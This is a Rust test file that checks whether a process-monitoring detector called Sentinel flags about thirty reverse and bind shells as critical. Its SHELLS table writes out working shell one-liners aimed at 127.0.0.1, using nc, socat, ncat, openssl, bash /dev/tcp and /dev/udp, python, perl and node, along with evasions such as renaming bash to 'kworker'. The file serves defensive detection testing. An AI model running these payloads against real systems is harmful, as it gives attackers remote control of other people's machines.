//! Real shells behind relays, under false names, from memory, and slow ones: each is found while it is
//! used, as critical, and the right process is named. One Sentinel watches them all.

use std::{
    fs,
    io::{ErrorKind, Read, Write},
    net::{TcpStream, UdpSocket},
    path::Path,
    process::{Child, Command, Stdio},
    time::Duration,
};

use sentinel_tests::{
    bed::Bed,
    peer::{Peer, free_port},
    programs::compiled,
    sentinel::{PATIENCE, Sentinel, within},
};
use serde_json::Value;

/// The attacker's end.
enum Far {
    /// It waits for TCP.
    Waits(Peer),
    /// The same, for a connection to hear and one to speak.
    WaitsForTwo(Peer),
    /// It waits for datagrams.
    Datagrams(UdpSocket),
    /// It waits behind TLS: a child that speaks it, and its input and output.
    Tls(Child),
    /// It connects to this port once somebody waits there.
    Calls(u16),
}

/// How an attack is done.
struct Attack {
    name: &'static str,
    far: fn(&Bed) -> (Far, u16),
    /// Of the script: `PORT`, `DIR` (a directory of its own) and `RELAY` (the C program) are filled in.
    script: &'static str,
}

#[rustfmt::skip]
const SHELLS: &[Attack] = &[
    Attack { name: "a fifo and nc", far: tcp, script: "mkfifo DIR/f; nc.openbsd 127.0.0.1 PORT <DIR/f | sh -i >DIR/f 2>&1" },
    Attack { name: "cat of a fifo", far: tcp, script: "mkfifo DIR/f; cat DIR/f | sh -i 2>&1 | nc.openbsd 127.0.0.1 PORT >DIR/f" },
    Attack { name: "socat, pty", far: tcp, script: "socat TCP:127.0.0.1:PORT EXEC:'bash -i',pty,stderr,setsid,sane" },
    Attack { name: "socat, socketpair", far: tcp, script: "socat TCP:127.0.0.1:PORT EXEC:/bin/sh,stderr" },
    Attack { name: "socat, pipes", far: tcp, script: "socat TCP:127.0.0.1:PORT EXEC:/bin/sh,pipes" },
    Attack { name: "ncat -e", far: tcp, script: "ncat -e /bin/sh 127.0.0.1 PORT" },
    Attack { name: "ncat -c", far: tcp, script: "ncat -c 'exec bash' 127.0.0.1 PORT" },
    Attack { name: "openssl s_client", far: tls, script: "mkfifo DIR/f; sh -i <DIR/f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:PORT >DIR/f 2>/dev/null" },
    Attack { name: "bash over UDP", far: udp, script: "exec 3<>/dev/udp/127.0.0.1/PORT; echo >&3; exec bash <&3 >&3 2>&3" },
    Attack { name: "a relay of datagrams", far: udp, script: "RELAY udp PORT" },
    Attack { name: "a relay of datagrams without a connection", far: udp, script: "RELAY datagrams PORT" },
    Attack { name: "a relay in C with two pipes", far: tcp, script: "RELAY pipes PORT" },
    Attack { name: "a relay in C with a pty", far: tcp, script: "RELAY pty PORT" },
    Attack { name: "a unix socket", far: tcp, script: "RELAY unix PORT" },
    Attack { name: "a connection by SCM_RIGHTS", far: tcp, script: "RELAY rights PORT" },
    Attack { name: "a shell from memory", far: tcp, script: "RELAY memory PORT" },
    Attack { name: "a bind shell with pipes", far: calls, script: "RELAY bind PORT" },
    Attack { name: "a bind shell of socat", far: calls, script: "socat TCP-LISTEN:PORT,bind=127.0.0.1,reuseaddr EXEC:sh,pty,stderr,setsid" },
    Attack { name: "a copy of bash", far: tcp, script: "cp /bin/bash DIR/kworker; DIR/kworker -c 'exec DIR/kworker <>/dev/tcp/127.0.0.1/PORT >&0 2>&0'" },
    Attack { name: "a copy of dash behind a relay", far: tcp, script: "cp /bin/dash DIR/kworker; RELAY pipes PORT DIR/kworker" },
    Attack { name: "a hard link to dash", far: tcp, script: "ln \"$(realpath /bin/dash)\" DIR/x 2>/dev/null || cp -p /bin/dash DIR/x; RELAY pipes PORT DIR/x" },
    Attack { name: "a shell of its own", far: tcp, script: "RELAY own PORT" },
    Attack { name: "python with a pty of its own", far: tcp, script: "exec python3 -c \"import os,pty,select,socket
s=socket.create_connection(('127.0.0.1',PORT))
pid,fd=pty.fork()
if pid==0: os.execl('/bin/sh','sh')
while True:
    ready,_,_=select.select([s,fd],[],[])
    if s in ready:
        data=s.recv(4096)
        if not data: break
        os.write(fd,data)
    if fd in ready:
        s.send(os.read(fd,4096))\"" },
    Attack { name: "perl with two pipes", far: tcp, script: "exec perl -MIPC::Open2 -MIO::Socket -e '$s=IO::Socket::INET->new(\"127.0.0.1:PORT\");
open2($o,$i,\"/bin/sh\",\"-i\"); if(fork){while(sysread($s,$b,4096)){syswrite($i,$b)}}else{while(sysread($o,$b,4096)){syswrite($s,$b)}}'" },
    Attack { name: "node with pipes", far: tcp, script: "exec node -e \"const s=require('net').connect(PORT,'127.0.0.1'),c=require('child_process').spawn('/bin/sh');s.pipe(c.stdin);c.stdout.pipe(s);c.on('exit',()=>process.exit())\"" },
    Attack { name: "a fifo and nc, as a script", far: tcp, script: "mkfifo DIR/f; nc.openbsd 127.0.0.1 PORT <DIR/f | bash /dev/stdin >DIR/f 2>&1" },
    Attack { name: "two connections", far: two, script: "exec 3<>/dev/tcp/127.0.0.1/PORT 4<>/dev/tcp/127.0.0.1/PORT; exec sh -i <&3 >&4 2>&4" },
    Attack { name: "a pipe as a script", far: two, script: "bash <(nc.openbsd -d 127.0.0.1 PORT) 2>&1 | (sleep 1; exec nc.openbsd 127.0.0.1 PORT)" },
    Attack { name: "a connection in, a pipe out", far: tcp, script: "exec 3<>/dev/tcp/127.0.0.1/PORT; sh -i <&3 2>&1 | cat >&3" },
    Attack { name: "bash, output later", far: tcp, script: "exec 3<>/dev/tcp/127.0.0.1/PORT; exec bash <&3 >/dev/null 2>&1" },
    Attack { name: "dash, output later", far: tcp, script: "exec 3<>/dev/tcp/127.0.0.1/PORT; exec sh <&3 >/dev/null 2>&1" },
    Attack { name: "lines by number, own answers", far: tcp, script: "exec 5<>/dev/tcp/127.0.0.1/PORT; while read -r -u5 l; do [ \"$l\" = exit ] && break; eval \"$l\" >&5 2>&1; done" },
    Attack { name: "stages that are many seconds apart", far: tcp, script: "exec 3<>/dev/tcp/127.0.0.1/PORT; sleep 12; exec 1>&3; sleep 10; exec 0<&3 2>&3; exec bash" },
];

fn tcp(_: &Bed) -> (Far, u16) {
    let peer = Peer::listen("127.0.0.1");
    let port = peer.address().port();
    (Far::Waits(peer), port)
}

fn two(bed: &Bed) -> (Far, u16) {
    match tcp(bed) {
        (Far::Waits(peer), port) => (Far::WaitsForTwo(peer), port),
        other => other,
    }
}

fn udp(_: &Bed) -> (Far, u16) {
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = socket.local_addr().unwrap().port();
    (Far::Datagrams(socket), port)
}

/// A port that nobody has.
fn calls(_: &Bed) -> (Far, u16) {
    let port = free_port();
    (Far::Calls(port), port)
}

fn tls(bed: &Bed) -> (Far, u16) {
    let (key, certificate) = (bed.path("key.pem"), bed.path("certificate.pem"));
    let made = Command::new("openssl")
        .args(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=x", "-days", "1"])
        .arg("-keyout")
        .arg(&key)
        .arg("-out")
        .arg(&certificate)
        .stderr(Stdio::null())
        .status();
    assert!(made.unwrap().success());
    let (_, port) = calls(bed);
    let server = Command::new("openssl")
        .args(["s_server", "-quiet", "-accept", &port.to_string(), "-key"])
        .arg(&key)
        .arg("-cert")
        .arg(&certificate)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    assert!(within(PATIENCE, || is_taken(port)));
    (Far::Tls(server), port)
}

/// Whether somebody waits at `port`: the kernel's table says so, without a connection.
fn is_taken(port: u16) -> bool {
    let table = fs::read_to_string("/proc/net/tcp").unwrap();
    let other = fs::read_to_string("/proc/net/tcp6").unwrap_or_default();
    let waiting = format!(":{port:04X} ");
    table.lines().chain(other.lines()).any(|line| {
        let mut fields = line.split_whitespace();
        let local = fields.nth(1).map(|local| format!("{local} ")).unwrap_or_default();
        local.ends_with(&waiting) && fields.nth(1) == Some("0A")
    })
}

/// A conversation with a shell.
trait Line: Read + Write {}
impl<T: Read + Write> Line for T {}

struct Datagrams(UdpSocket);

impl Read for Datagrams {
    fn read(&mut self, to: &mut [u8]) -> std::io::Result<usize> {
        self.0.recv(to)
    }
}

impl Write for Datagrams {
    /// Byte by byte: a shell reads one at a time, and the rest of a datagram is lost.
    fn write(&mut self, from: &[u8]) -> std::io::Result<usize> {
        from.iter().try_for_each(|byte| self.0.send(&[*byte]).map(|_sent| ()))?;
        Ok(from.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

struct Both<R, W>(R, W);

impl<R: Read, W> Read for Both<R, W> {
    fn read(&mut self, to: &mut [u8]) -> std::io::Result<usize> {
        self.0.read(to)
    }
}

impl<R, W: Write> Write for Both<R, W> {
    fn write(&mut self, from: &[u8]) -> std::io::Result<usize> {
        self.1.write(from)
    }

    fn flush(&mut self) -> std::io::Result<()> {
        self.1.flush()
    }
}

/// Opens the attacker's line.
fn answer(far: Far) -> (Box<dyn Line>, Option<Child>) {
    match far {
        Far::Waits(peer) => (Box::new(peer.accept()), None),
        Far::WaitsForTwo(peer) => {
            let to_shell = peer.accept();
            (Box::new(Both(peer.accept(), to_shell)), None)
        }
        Far::Datagrams(socket) => {
            socket.set_read_timeout(Some(PATIENCE)).unwrap();
            let (_, from) = socket.recv_from(&mut [0; 64]).unwrap();
            socket.connect(from).unwrap();
            (Box::new(Datagrams(socket)), None)
        }
        Far::Tls(mut server) => {
            let (output, input) = (server.stdout.take().unwrap(), server.stdin.take().unwrap());
            (Box::new(Both(output, input)), Some(server))
        }
        Far::Calls(port) => {
            assert!(within(PATIENCE, || is_taken(port)), "nobody waits at {port}");
            let stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
            stream.set_read_timeout(Some(PATIENCE)).unwrap();
            (Box::new(stream), None)
        }
    }
}

/// Reads until `pid=…` and a full stop.
fn hear_pid(name: &str, line: &mut dyn Line) -> u32 {
    let mut heard = String::new();
    let mut bytes = [0; 1024];
    loop {
        let count = match line.read(&mut bytes) {
            Err(error) if error.kind() == ErrorKind::Interrupted => continue,
            other => other.unwrap_or_else(|error| panic!("{name}: {error} after {heard:?}")),
        };
        assert!(count > 0, "{name}: hung up after {heard:?}");
        heard.push_str(&String::from_utf8_lossy(&bytes[..count]));
        let told = heard.split("pid=").skip(1).find_map(|rest| rest.split_once('.'));
        if let Some((pid, _)) = told {
            return pid.parse().unwrap_or_else(|_| panic!("{name}: {heard:?}"));
        }
    }
}

/// Talks to the shell as somebody would who types; returns its pid.
fn talk(name: &str, line: &mut dyn Line) -> u32 {
    let say = |text: &str, line: &mut dyn Line| {
        std::thread::sleep(Duration::from_millis(400));
        line.write_all(text.as_bytes()).unwrap_or_else(|error| panic!("{name}: {error}"));
        line.flush().unwrap();
    };
    // Its own commands are one word or two; the quotes keep an echo from looking like the answer.
    let ask = if name == "a shell of its own" { "pid\n" } else { "echo pid''=$$.\n" };
    if name.ends_with("output later") {
        say("exec >&3 2>&3\n", line);
    }
    say(ask, line);
    let pid = hear_pid(name, line);
    for _ in 0..3 {
        say("/bin/true\n", line);
        say(ask, line);
        assert_eq!(hear_pid(name, line), pid, "{name}");
    }
    say("exit\n", line);
    pid
}

/// Does an attack; returns the pid of the shell, and of what the test started.
fn attack(bed: &Bed, number: usize, attack: &Attack) -> (u32, u32) {
    let (far, port) = (attack.far)(bed);
    let directory = bed.path(&number.to_string());
    fs::create_dir(&directory).unwrap();
    let script = attack
        .script
        .replace("PORT", &port.to_string())
        .replace("DIR", directory.to_str().unwrap())
        .replace("RELAY", compiled("shell_relay").to_str().unwrap());
    let mut child = bed
        .command("bash")
        .args(["-c", &script])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let (mut line, server) = answer(far);
    let shell = talk(attack.name, &mut *line);
    drop(line);
    if let Some(mut server) = server {
        let _gone = server.kill();
        server.wait().unwrap();
    }
    let started = child.id();
    child.kill().unwrap();
    child.wait().unwrap();
    (shell, started)
}

/// What is wrong with what was said of an attack; `pids` are the shell's, and that of what the test
/// started.
fn judge(name: &str, (shell, started): (u32, u32), alerts: &[Value]) -> Option<String> {
    // A relay that has nothing but the connection as its own input and output is named itself.
    let about = |alert: &&Value| alert["pid"] == shell || alert["pid"] == started;
    let of_it: Vec<&Value> = alerts
        .iter()
        .filter(|alert| alert["pattern_name"] == "reverse_shell")
        .filter(|alert| alert["severity"] == "critical")
        .filter(about)
        .collect();
    let said = || {
        let all = alerts.iter().filter(about).map(|alert| alert["message"].to_string());
        all.collect::<Vec<_>>().join("\n    ")
    };
    match of_it.as_slice() {
        [] => Some(format!("{name}: nothing critical; said was\n    {}", said())),
        [alert] if alert["mitre"] != "T1059" || alert["pid"] != shell => {
            Some(format!("{name}: {alert:#}"))
        }
        [_] => None,
        more => Some(format!("{name}: {} times:\n    {}", more.len(), said())),
    }
}

#[test]
fn each_is_found_while_it_is_used() {
    let Some(bed) = Bed::new() else { return };
    let missing: Vec<&str> = ["nc.openbsd", "ncat", "socat", "openssl", "node", "perl"]
        .into_iter()
        .filter(|tool| !Path::new("/usr/bin").join(tool).exists())
        .collect();
    if !missing.is_empty() {
        return sentinel_tests::bed::skip(&format!("not installed: {}", missing.join(", ")));
    }
    let sentinel = Sentinel::start(&bed, &[]);
    let pids: Vec<std::thread::Result<(u32, u32)>> = std::thread::scope(|scope| {
        let bed = &bed;
        let under_way: Vec<_> = SHELLS
            .iter()
            .enumerate()
            .map(|(number, one)| scope.spawn(move || attack(bed, number, one)))
            .collect();
        under_way.into_iter().map(std::thread::ScopedJoinHandle::join).collect()
    });
    let alerts = sentinel.stop().alerts;
    let wrong: Vec<String> = SHELLS
        .iter()
        .zip(pids)
        .filter_map(|(attack, pids)| match pids {
            Ok(pids) => judge(attack.name, pids, &alerts),
            Err(_) => Some(format!("{}: not done; see above", attack.name)),
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
